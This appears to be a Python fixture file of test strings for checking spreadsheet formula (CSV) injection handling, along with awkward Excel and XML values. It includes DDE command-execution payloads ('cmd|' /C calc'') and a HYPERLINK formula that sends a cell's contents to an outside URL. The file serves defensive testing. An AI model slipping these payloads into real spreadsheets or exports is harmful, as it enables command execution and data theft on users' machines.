"""Texts that a spreadsheet would calculate, or read as something else, if they were let."""

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    '=HYPERLINK("https://example.org?"&A1,"here")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '="1"',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    " \uff1d1",
]
# Not formulas, but Excel or XML has its own idea of them
ODD_TEXTS = [
    "",
    "'quoted",
    "2026-03-14",
    "007",
    "1e5",
    "TRUE",
    "#N/A",
    "#REF!",
    "_x003D_1+1",
    "_x000D_",
    "<b>&amp;</b>",
    "one\ntwo",
    "Ærø 🚢",
    " padded ",
]
